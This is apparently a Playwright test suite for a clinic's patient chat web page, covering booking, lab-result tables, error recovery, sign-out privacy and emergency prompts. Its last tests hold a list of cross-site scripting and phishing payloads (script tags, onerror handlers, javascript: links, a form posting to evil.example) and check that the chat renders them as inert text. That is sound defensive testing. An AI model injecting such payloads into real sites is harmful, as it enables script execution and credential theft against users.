"""The web chat as a person meets it: what is said, what can be tapped, and what happens when the server fails."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.async_api import expect

from tests.browser.conftest import Opened
from tests.browser.fake_gateway import reply

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

TUESDAY_MORNING = "Tuesday, December 1 at 10:30 AM, Dr. Amy Chen"
TUESDAY_NOON = "Tuesday, December 1 at 1:00 PM, Dr. Amy Chen"
WEDNESDAY = "Wednesday, December 2 at 9:00 AM, Dr. Luis Rivera"
TIMES = f"1. {TUESDAY_MORNING}\n2. {TUESDAY_NOON}\n3. {WEDNESDAY}"
SLOTS = [
    {"start": "2026-12-01T10:30:00-08:00", "title": TUESDAY_MORNING},
    {"start": "2026-12-01T13:00:00-08:00", "title": TUESDAY_NOON},
    {"start": "2026-12-02T09:00:00-08:00", "title": WEDNESDAY},
]
OFFER = reply(
    f"Here is what's open:\n{TIMES}\nWhich one would you like?",
    titles=(TUESDAY_MORNING, TUESDAY_NOON, WEDNESDAY),
    values={"times": TIMES},
    parts=[{"type": "slots", "slots": SLOTS}],
)
LIPIDS = {
    "type": "result",
    "name": "Lipid panel",
    "on": "2026-11-17",
    "rows": [
        {"name": "LDL cholesterol", "value": "162", "unit": "mg/dL", "range": "0-99", "flag": "H"},
        {"name": "HDL cholesterol", "value": "51", "unit": "mg/dL", "range": "40-60", "flag": ""},
    ],
}


async def test_a_message_is_sent_with_enter_and_answered(demo: Opened) -> None:
    demo.gateway.will_say(reply("Hello, Ada."), reply("What can I do for you?"))

    await demo.say("Good morning")

    said = demo.page.locator(".message")
    await expect(said).to_contain_text(["Good morning", "Hello, Ada.", "What can I do for you?"])
    await expect(demo.page.get_by_role("textbox")).to_have_value("")
    sent = demo.gateway.turns[0]
    assert (sent["text"], sent["channel"], sent["language"]) == ("Good morning", "web", "en")
    assert "conversation" not in sent


async def test_shift_and_enter_begin_a_new_line(demo: Opened) -> None:
    box = demo.page.get_by_role("textbox")
    await box.fill("Two things:")

    await box.press("Shift+Enter")
    await box.press_sequentially("a refill")

    await expect(box).to_have_value("Two things:\na refill")
    assert demo.gateway.turns == []


async def test_a_tapped_choice_is_sent_by_its_id_and_cannot_be_tapped_twice(demo: Opened) -> None:
    demo.gateway.will_say(reply("Shall I book it?", titles=("Yes", "No")))
    demo.gateway.will_say(reply("It is booked."))
    await demo.say("Book it")

    await demo.page.get_by_role("button", name="Yes").click()

    await expect(demo.page.locator(".message").last).to_contain_text("It is booked.")
    assert demo.gateway.turns[1]["choice"] == "choice yes"
    assert "text" not in demo.gateway.turns[1]
    await expect(demo.page.locator(".message.person").last).to_contain_text("Yes")
    await expect(demo.page.get_by_role("button", name="Yes")).to_be_disabled()
    await expect(demo.page.get_by_role("button", name="No", exact=True)).to_be_disabled()


async def test_choices_are_closed_when_the_answer_is_typed(demo: Opened) -> None:
    demo.gateway.will_say(reply("Shall I book it?", titles=("Yes", "No")))
    demo.gateway.will_say(reply("Nothing is booked."))
    await demo.say("Book it")
    await expect(demo.page.get_by_role("button", name="Yes")).to_be_enabled()

    await demo.say("rather not")

    await expect(demo.page.get_by_role("button", name="Yes")).to_be_disabled()


async def test_open_times_are_listed_by_day_and_not_said_twice(demo: Opened) -> None:
    demo.gateway.will_say(OFFER)
    demo.gateway.will_say(reply("Good choice."))

    await demo.say("A physical, please")

    times = demo.page.get_by_role("group", name="Open times")
    await expect(times.get_by_role("heading")).to_have_text(["Tuesday, December 1", "Wednesday, December 2"])
    await expect(times.get_by_role("button")).to_have_text(
        ["10:30 AM, Dr. Amy Chen", "1:00 PM, Dr. Amy Chen", "9:00 AM, Dr. Luis Rivera"]
    )
    await expect(demo.page.locator(".assistant > p")).to_have_text(
        ["Here is what's open:", "Which one would you like?"]
    )
    await times.get_by_role("button", name=WEDNESDAY).click()
    await expect(demo.page.locator(".message").last).to_contain_text("Good choice.")
    assert demo.gateway.turns[1]["choice"] == f"choice {WEDNESDAY.lower()}"


@pytest.mark.parametrize("window", [{"timezone_id": "Pacific/Auckland"}, {"timezone_id": "Pacific/Honolulu"}])
async def test_days_are_the_clinics_wherever_the_person_is(demo: Opened) -> None:
    demo.gateway.will_say(OFFER)

    await demo.say("A physical, please")

    days = demo.page.get_by_role("group", name="Open times").get_by_role("heading")
    await expect(days).to_have_text(["Tuesday, December 1", "Wednesday, December 2"])


async def test_spanish_times_lose_their_day_too(demo: Opened) -> None:
    title = "martes 1 de diciembre a la 1:00 de la tarde, Dr. Luis Rivera"
    slots = {"type": "slots", "slots": [{"start": "2026-12-01T13:00:00-08:00", "title": title}]}
    demo.gateway.will_say(reply("¿Le sirve?", titles=(title,), parts=[slots]), language="es")

    await demo.say("Quiero una cita")

    times = demo.page.get_by_role("group", name="Horas libres")
    await expect(times.get_by_role("heading")).to_have_text("martes 1 de diciembre")
    await expect(times.get_by_role("button")).to_have_text("1:00 de la tarde, Dr. Luis Rivera")
    await expect(demo.page.locator(".message.assistant")).to_have_attribute("lang", "es")


async def test_a_receipt_shows_what_was_done(demo: Opened) -> None:
    receipt = {
        "type": "receipt",
        "visit": "physical",
        "provider": "Dr. Amy Chen",
        "appointment": "hidden-id",
        "start": "x",
    }
    demo.gateway.will_say(reply("You're booked.", parts=[receipt]))

    await demo.say("Yes")

    card = demo.page.locator(".card")
    await expect(card.get_by_role("heading")).to_have_text("Your receipt")
    await expect(card.locator("dt")).to_have_text(["Visit", "With"])
    await expect(card.locator("dd")).to_have_text(["physical", "Dr. Amy Chen"])


@pytest.mark.parametrize(
    "window", [{"viewport": {"width": 1280, "height": 800}}, {"viewport": {"width": 390, "height": 844}}]
)
async def test_results_are_a_table_on_every_width(demo: Opened) -> None:
    text = "Lipid panel, November 17, 2026:\n- LDL: 162\n- HDL: 51\nYour provider wrote: see you soon"
    demo.gateway.will_say(reply(text, parts=[LIPIDS], values={"lines": "- LDL: 162\n- HDL: 51"}))

    await demo.say("My cholesterol")

    table = demo.page.get_by_role("table", name="Lipid panel, November 17, 2026")
    await expect(table.get_by_role("columnheader")).to_have_text(
        ["Test", "Result", "Unit", "Usual range", "Lab's mark"]
    )
    await expect(table.get_by_role("rowheader")).to_have_text(["LDL cholesterol", "HDL cholesterol"])
    await expect(table.get_by_role("row").nth(1).get_by_role("cell")).to_have_text(["162", "mg/dL", "0-99", "High"])
    await expect(demo.page.locator(".assistant > p")).to_have_text(
        ["Lipid panel, November 17, 2026:", "Your provider wrote: see you soon"]
    )


async def test_a_slow_answer_is_announced_and_a_quick_one_is_not(demo: Opened) -> None:
    writing = demo.page.locator(".writing")
    held = demo.gateway.will_say(reply("Here it is."), held=True)

    await demo.say("My results")

    await expect(writing).to_have_text("Writing an answer…")
    held.released.set()
    await expect(writing).to_have_text("")
    await expect(demo.page.locator(".message").last).to_contain_text("Here it is.")


async def test_an_error_keeps_the_words_and_the_same_message_is_sent_again(demo: Opened) -> None:
    demo.gateway.will_refuse(503, "We can't answer just now. Please try again in a minute. In an emergency call 911.")
    demo.gateway.will_say(reply("Your refill is on its way."))

    await demo.say("Refill my lisinopril")
    unsent = demo.page.locator(".message.person")
    await expect(unsent).to_contain_text("Refill my lisinopril")
    await expect(unsent).to_contain_text(
        "We can't answer just now. Please try again in a minute. In an emergency call 911."
    )
    await demo.page.get_by_role("button", name="Send again").click()

    await expect(demo.page.locator(".message").last).to_contain_text("Your refill is on its way.")
    await expect(unsent).to_have_text("You:Refill my lisinopril")
    first, second = demo.gateway.turns
    assert first == second


async def test_words_are_kept_while_there_is_no_network(demo: Opened) -> None:
    await demo.page.context.set_offline(True)

    await demo.say("Refill my lisinopril")

    await expect(demo.page.locator(".message.person")).to_contain_text("Your message didn't get through.")
    await demo.page.context.set_offline(False)
    demo.gateway.will_say(reply("Your refill is on its way."))
    await demo.page.get_by_role("button", name="Send again").click()
    await expect(demo.page.locator(".message").last).to_contain_text("Your refill is on its way.")


async def test_a_message_that_is_refused_for_good_can_be_changed(demo: Opened) -> None:
    demo.gateway.will_refuse(413, "The message is too long. Please say it in fewer words.")
    demo.gateway.will_say(reply("Thank you."))
    await demo.say("A very long story")

    await demo.page.get_by_role("button", name="Change it").click()

    box = demo.page.get_by_role("textbox")
    await expect(box).to_have_value("A very long story")
    await box.press("Enter")
    await expect(demo.page.locator(".message").last).to_contain_text("Thank you.")
    first, second = demo.gateway.turns
    assert first["message_id"] != second["message_id"]


@pytest.mark.parametrize("status", [401, 409])
async def test_what_only_the_operator_can_mend_is_not_told_to_the_person(demo: Opened, status: int) -> None:
    demo.gateway.will_refuse(status, "This needs a valid API key in the header Authorization.")

    await demo.say("Hello")

    await expect(demo.page.locator(".message.person")).to_contain_text("Something went wrong on our side.")
    await expect(demo.page.locator(".message.person")).not_to_contain_text("API key")


async def test_an_emergency_does_not_wait_for_the_answer_before_it(demo: Opened) -> None:
    demo.gateway.will_say(reply("Hello."))
    held = demo.gateway.will_say(reply("Your results."), held=True)
    demo.gateway.will_say(reply("Call 911 now.", "utter_report_emergency"))
    await demo.say("Hello")
    await demo.say("My results")

    await demo.say("My chest hurts")

    await expect(demo.page.locator(".message").last).to_contain_text("Call 911 now.")
    held.released.set()
    await expect(demo.page.locator(".message").last).to_contain_text("Your results.")


async def test_an_emergency_does_not_wait_for_a_message_that_failed(demo: Opened) -> None:
    demo.gateway.will_refuse(503, "We can't answer just now.")
    demo.gateway.will_say(reply("Call 911 now.", "utter_report_emergency"))
    await demo.say("My results")
    await demo.page.get_by_role("button", name="Send again").wait_for()

    await demo.say("My chest hurts")

    await expect(demo.page.locator(".message").last).to_contain_text("Call 911 now.")


async def test_the_second_message_waits_for_the_conversation_that_the_first_one_opens(demo: Opened) -> None:
    held = demo.gateway.will_say(reply("Hello."), held=True)
    demo.gateway.will_say(reply("Your results."))
    await demo.say("Hello")
    await demo.say("My results")

    held.released.set()

    await expect(demo.page.locator(".message").last).to_contain_text("Your results.")
    assert demo.gateway.turns[1]["conversation"] == "c-1"


async def test_a_first_message_that_failed_joins_the_conversation_opened_since(demo: Opened) -> None:
    demo.gateway.will_refuse(503, "We can't answer just now.")
    demo.gateway.will_say(reply("Hello."))
    demo.gateway.will_say(reply("Your results."))
    await demo.say("My results")
    await demo.page.get_by_role("button", name="Send again").wait_for()
    await demo.say("Hello")
    await demo.page.get_by_text("Hello.", exact=True).wait_for()

    await demo.page.get_by_role("button", name="Send again").click()

    await expect(demo.page.locator(".message").last).to_contain_text("Your results.")
    assert demo.gateway.turns[2]["conversation"] == "c-1"


async def test_a_conversation_id_renewed_at_sign_in_is_used_from_then_on(demo: Opened) -> None:
    demo.gateway.will_say(reply("Please type the code."), conversation="before")
    code = demo.gateway.will_say(reply("You're signed in."), conversation="after", signed_in=True, held=True)
    late = demo.gateway.will_say(reply("One moment."), conversation="before", signed_in=True, held=True)
    demo.gateway.will_say(reply("Here are your results."), conversation="after", signed_in=True)
    await demo.say("Sign me in")
    await demo.page.get_by_text("Please type the code.").wait_for()
    await demo.say("123456")
    await demo.say("hello?")
    code.released.set()
    await demo.page.get_by_text("You're signed in.").wait_for()
    late.released.set()
    await demo.page.get_by_text("One moment.").wait_for()

    await demo.say("My results")

    await demo.page.get_by_text("Here are your results.").wait_for()
    assert [turn.get("conversation") for turn in demo.gateway.turns] == [None, "before", "before", "after"]


async def test_what_is_typed_while_a_code_is_checked_goes_on_in_the_renewed_conversation(demo: Opened) -> None:
    demo.gateway.will_say(reply("Please type the code.", "utter_ask_sign_in_code_sent"), conversation="before")
    code = demo.gateway.will_say(reply("You're signed in."), conversation="after", signed_in=True, held=True)
    demo.gateway.will_say(reply("Here are your results."), conversation="after", signed_in=True)
    await demo.say("Sign me in")
    await demo.page.get_by_text("Please type the code.").wait_for()
    await demo.say("123456")
    await demo.say("My results")

    code.released.set()

    await demo.page.get_by_text("Here are your results.").wait_for()
    assert [turn.get("conversation") for turn in demo.gateway.turns] == [None, "before", "after"]


async def test_w06_only_the_conversation_id_stays_on_the_device(demo: Opened) -> None:
    demo.gateway.will_say(reply("Hello."))
    demo.gateway.will_say(reply("Still here."))
    await demo.say("My private question")
    await demo.page.get_by_text("Hello.", exact=True).wait_for()

    await demo.page.reload()

    kept = await demo.page.evaluate("[Object.values(sessionStorage), localStorage.length, document.cookie]")
    assert kept == [["c-1"], 0, ""]
    await expect(demo.page.get_by_role("log", name="Conversation")).to_contain_text(
        "You're back in the same conversation."
    )
    await demo.say("Are you there?")
    await demo.page.get_by_text("Still here.").wait_for()
    assert demo.gateway.turns[1]["conversation"] == "c-1"


async def test_starting_over_forgets_the_conversation_and_what_was_on_its_way(demo: Opened) -> None:
    demo.gateway.will_say(reply("Hello."), signed_in=True)
    held = demo.gateway.will_say(reply("Your private results."), held=True)
    demo.gateway.will_say(reply("Hello again."), conversation="c-2")
    await demo.say("Hello")
    await demo.say("My results")

    await demo.page.get_by_role("button", name="Start over", exact=True).click()

    held.released.set()
    await expect(demo.page.locator(".message")).to_have_count(0)
    await expect(demo.page.get_by_text("Not signed in")).to_be_visible()
    await demo.say("Hi")
    await expect(demo.page.locator(".message").last).to_contain_text("Hello again.")
    assert "conversation" not in demo.gateway.turns[2]


async def test_a_conversation_that_ended_is_not_gone_on_with(demo: Opened) -> None:
    demo.gateway.will_say(reply("Goodbye!"), ended=True, signed_in=True)
    demo.gateway.will_say(reply("Hello."))
    await demo.say("Bye")
    await demo.page.get_by_text("This conversation has ended.").wait_for()

    await demo.say("One more thing")

    await demo.page.get_by_text("Hello.", exact=True).wait_for()
    assert "conversation" not in demo.gateway.turns[1]


WHOLE_PAGE = """() => {
  const shown = (root) => [...root.querySelectorAll("*")].map((node) =>
    [node.value ?? "", [...node.attributes].map((each) => each.value).join(" "), node.shadowRoot ? shown(node.shadowRoot) : ""]
      .join(" ")).join(" ") + " " + (root.textContent ?? root.body.textContent);
  return [shown(document), ...Object.values(sessionStorage), ...Object.values(localStorage), document.cookie,
    location.href, JSON.stringify(history.state)].join(" ");
}"""
CANARIES = ("hemoglobin-canary", "13.77", "wombat question", "unsent secret", "Quokka Street")


@pytest.mark.parametrize("ended", [False, True])
async def test_w06_after_signing_out_nothing_of_what_was_said_is_left(demo: Opened, ended: bool) -> None:
    rows = [{"name": "hemoglobin-canary", "value": "13.77", "flag": "H"}]
    demo.gateway.will_say(
        reply("Here it is.", parts=[{"type": "result", "name": "Blood", "rows": rows}], titles=("Quokka Street",)),
        signed_in=True,
    )
    demo.gateway.will_refuse(503, "Later, please.")
    late = demo.gateway.will_say(reply("hemoglobin-canary again"), signed_in=True, held=True)
    demo.gateway.will_say(reply("You're signed out."), signed_in=False, ended=ended)
    await demo.say("wombat question")
    await demo.page.get_by_role("cell", name="13.77").wait_for()
    held = await demo.page.evaluate(WHOLE_PAGE)
    assert [each for each in CANARIES if each in held] == [each for each in CANARIES if each != "unsent secret"]
    await demo.say("unsent secret")
    await demo.page.get_by_role("button", name="Send again").wait_for()
    await demo.say("and my results?")

    await demo.say("Sign me out")
    await demo.page.get_by_text("You're signed out.").wait_for()
    late.released.set()
    await demo.page.wait_for_timeout(300)

    left = await demo.page.evaluate(WHOLE_PAGE)
    assert [each for each in CANARIES if each in left] == []
    await demo.page.goto(f"{demo.origin}/theme.css")
    await demo.page.go_back()
    await demo.page.get_by_role("option", name="Ada Ellis").wait_for(state="attached")
    left = await demo.page.evaluate(WHOLE_PAGE)
    assert [each for each in CANARIES if each in left] == []


async def test_the_sign_in_is_shown(demo: Opened) -> None:
    demo.gateway.will_say(reply("You're signed in."), signed_in=True)
    await expect(demo.page.get_by_text("Not signed in")).to_be_visible()

    await demo.say("123456")

    await expect(demo.page.get_by_text("Signed in", exact=True)).to_be_visible()


async def test_a_code_may_be_filled_in_by_the_device_only_when_one_is_asked_for(demo: Opened) -> None:
    demo.gateway.will_say(reply("Please type the code.", "utter_ask_sign_in_code_sent"))
    demo.gateway.will_say(reply("You're signed in.", "utter_sign_in_done"))
    box = demo.page.get_by_role("textbox")
    await expect(box).to_have_attribute("autocomplete", "off")

    await demo.say("Sign me in")

    await expect(box).to_have_attribute("autocomplete", "one-time-code")
    await demo.say("123456")
    await expect(box).to_have_attribute("autocomplete", "off")


@pytest.mark.parametrize(
    ("lang", "line"), [("English", "Emergency? Call 911."), ("Español", "¿Emergencia? Llame al 911.")]
)
async def test_the_emergency_number_is_always_there(demo: Opened, lang: str, line: str) -> None:
    await demo.page.get_by_role("button", name=lang).click()

    await expect(demo.page.get_by_text(line)).to_be_visible()
    await expect(demo.page.get_by_role("link", name="911")).to_have_attribute("href", "tel:911")


async def test_an_emergency_stands_out(demo: Opened) -> None:
    demo.gateway.will_say(reply("Call 911 now.", "utter_report_emergency"), reply("Anything else?"))

    await demo.say("My chest hurts")
    await demo.page.get_by_text("Anything else?").wait_for()

    edges = await demo.page.locator(".message.assistant").evaluate_all(
        "(all) => all.map((each) => getComputedStyle(each).borderTopWidth)"
    )
    assert edges == ["2px", "1px"]


HOSTILE = "<img src=x onerror=\"document.body.dataset.fell='yes'\"><script>document.body.dataset.fell='yes'</script>"
FELL = "document.body.dataset.fell='yes'"
HOSTILE_LIST = [
    f"<svg onload={FELL}>",
    f'<iframe src="javascript:parent.{FELL}"></iframe>',
    f'<a href="javascript:{FELL}">here</a>',
    f"javascript:{FELL}",
    f'"><script>{FELL}</script>',
    f"' autofocus onfocus=\"{FELL}\" x='",
    f"</textarea><script>{FELL}</script>",
    f"<style>@import 'https://evil.example/x.css';</style><body onload={FELL}>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=code><button>Send</button></form>",
    "[here](https://evil.example) ![x](https://evil.example/x.png)",
    "https://evil.example/sign-in",
    f"${{{FELL}}} {{{{constructor.constructor('{FELL}')()}}}}",
    f"&lt;script&gt;{FELL}&lt;/script&gt;",
    "\u202e\u2066evil\u2069 \u0000 \ufeff",
]


def _hostile_replies() -> list[dict[str, Any]]:
    slots = [{"start": "2026-12-01T10:30:00-08:00", "title": HOSTILE}]
    return [
        reply(HOSTILE, titles=(HOSTILE,)),
        reply("", titles=(HOSTILE,), parts=[{"type": "slots", "slots": slots}]),
        reply("", parts=[{"type": "receipt", "visit": HOSTILE, "medications": [HOSTILE]}]),
        reply(
            "",
            parts=[{"type": "result", "name": HOSTILE, "rows": [{"name": HOSTILE, "value": HOSTILE, "flag": HOSTILE}]}],
        ),
        reply("", parts=[{"type": HOSTILE, "text": HOSTILE}]),
    ]


async def test_w01_hostile_text_is_shown_as_text(demo: Opened) -> None:
    demo.gateway.people[0]["try"] = [HOSTILE]
    await demo.page.reload()
    demo.gateway.send_text(f"{HOSTILE} 123456")
    demo.gateway.will_say(*_hostile_replies(), trace={HOSTILE: [HOSTILE, {"name": HOSTILE, "ms": HOSTILE}]})
    demo.gateway.will_refuse(503, HOSTILE)

    await demo.say(HOSTILE)
    await demo.say(HOSTILE)

    await demo.page.get_by_role("button", name="123456").wait_for()
    await demo.page.get_by_role("button", name="Send again").wait_for()
    shown = demo.page.get_by_text(HOSTILE)
    assert await shown.count() >= 12
    assert await demo.page.locator("img:not([src='mark.svg'])").count() == 0
    assert await demo.page.evaluate("document.body.dataset.fell") is None


@pytest.mark.parametrize("hostile", HOSTILE_LIST)
async def test_w01_no_field_of_an_answer_runs_asks_or_links(demo: Opened, hostile: str) -> None:
    rows = [{"name": hostile, "value": hostile, "unit": hostile, "range": hostile, "flag": hostile}]
    demo.gateway.will_say(
        reply(hostile, hostile, titles=(hostile,), values={"times": hostile, "lines": hostile}),
        reply(hostile, parts=[{"type": "result", "name": hostile, "rows": rows}]),
        reply(hostile, parts=[{"type": "receipt", "visit": hostile, "amount": hostile, "receipt": hostile}]),
        trace={"outcome": hostile, "understood": {hostile: hostile}},
    )
    demo.gateway.will_refuse(429, hostile)
    await demo.say(hostile)
    await demo.page.get_by_role("table").wait_for()
    await demo.say("again")
    await demo.page.get_by_role("button", name="Send again").wait_for()

    chat = demo.page.locator("careline-chat")
    for tag in ("img", "iframe", "script", "svg", "style", "form:not(:has(#message))", "a:not([href='tel:911'])"):
        assert await chat.locator(tag).count() == 0, tag
    assert await demo.page.evaluate("document.body.dataset.fell") is None
    assert demo.strangers == []


async def test_a_new_answer_is_in_view_from_its_beginning(demo: Opened) -> None:
    demo.gateway.will_say(reply("First.\n" + "line\n" * 60), reply("Last."))

    await demo.say("Tell me everything")

    await expect(demo.page.get_by_text(re.compile(r"^First\."))).to_be_in_viewport(ratio=0.1)
    await expect(demo.page.get_by_text("Last.", exact=True)).not_to_be_in_viewport()
